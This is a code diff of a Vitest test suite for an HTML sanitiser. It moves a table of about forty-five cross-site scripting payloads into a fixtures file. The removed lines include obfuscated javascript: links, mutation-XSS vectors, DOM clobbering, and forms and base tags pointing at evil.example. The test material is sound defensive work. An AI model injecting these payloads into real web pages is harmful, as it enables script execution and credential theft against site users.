@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { sanitizePostHtml } from '../../../src/lib/sanitize';
+import { XSS_PAYLOADS } from '../../fixtures/hostileHtml';
 
 /** Parses sanitised output the way the browser will when it is set as innerHTML. */
 function parse(html: string): HTMLElement {
@@ -56,61 +57,6 @@ function expectHarmless(output: string) {
   // Stable: sanitising the output again changes nothing (no mutation on re-parse).
   expect(sanitizePostHtml(output)).toBe(output);
 }
-
-const XSS_PAYLOADS: Record<string, string> = {
-  'script tag': '<p>hi</p><script>alert(1)</script>',
-  'script with src': '<script src="https://evil.example/x.js"></script>',
-  'uppercase script': '<SCRIPT>alert(1)</SCRIPT>',
-  'img onerror': '<img src="x" onerror="alert(1)">',
-  'img onerror without quotes': '<img src=x onerror=alert(1)//>',
-  'body onload': '<body onload="alert(1)"><p>x</p></body>',
-  'div onmouseover': '<div onmouseover="alert(1)">hover</div>',
-  'svg onload': '<svg onload="alert(1)"><circle r="10"></circle></svg>',
-  'svg script': '<svg><script>alert(1)</script></svg>',
-  'svg animate href':
-    '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
-  'javascript: href': '<a href="javascript:alert(1)">click</a>',
-  'mixed-case javascript: href': '<a href="JaVaScRiPt:alert(1)">click</a>',
-  'entity-encoded javascript: href':
-    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
-  'hex-entity javascript: href': '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>',
-  'tab inside javascript: href': '<a href="java\tscript:alert(1)">click</a>',
-  'newline inside javascript: href': '<a href="java&#10;script:alert(1)">click</a>',
-  'leading whitespace javascript: href': '<a href=" &#14; javascript:alert(1)">click</a>',
-  'vbscript: href': '<a href="vbscript:msgbox(1)">click</a>',
-  'data:text/html href':
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  'data:svg image': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  'iframe javascript src': '<iframe src="javascript:alert(1)"></iframe>',
-  'object data': '<object data="javascript:alert(1)"></object>',
-  'embed src': '<embed src="https://evil.example/x.swf">',
-  'math mglyph style mutation':
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  'math style mutation': '<math><mi><style><img src=x onerror=alert(1)></style></mi></math>',
-  'svg p style mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  'form nesting mutation':
-    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  'noscript title mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  'form with action': '<form action="https://evil.example/steal"><input name="pw"></form>',
-  'button formaction': '<button formaction="javascript:alert(1)">go</button>',
-  'input formaction': '<input type="submit" formaction="https://evil.example">',
-  'id clobbering cookie': '<img id="cookie" src="a.png"><a id="location" href="/x">x</a>',
-  'name clobbering': '<img name="getElementById" src="a.png"><img name="body" src="b.png">',
-  'style tag': '<style>body{display:none}</style><p>text</p>',
-  'style attribute overlay':
-    '<p style="position:fixed;inset:0;z-index:9999;background:url(javascript:alert(1))">x</p>',
-  'class borrowing site utilities': '<div class="fixed inset-0 z-50">phish</div>',
-  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  'base href hijack': '<base href="https://evil.example/">',
-  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
-  'template content': '<template><img src=x onerror=alert(1)></template>',
-  'details ontoggle': '<details open ontoggle="alert(1)"><summary>x</summary></details>',
-  'video poster and onerror': '<video poster="javascript:alert(1)" onerror="alert(1)"></video>',
-  'a ping': '<a href="/x" ping="https://evil.example/track">x</a>',
-  'comment breakout': '<!--<img src="--><img src=x onerror=alert(1)//">',
-  'textarea breakout': '<textarea><img src=x onerror=alert(1)></textarea>',
-};
 
 describe('sanitizePostHtml: nothing dangerous survives', () => {
   for (const [name, payload] of Object.entries(XSS_PAYLOADS)) {
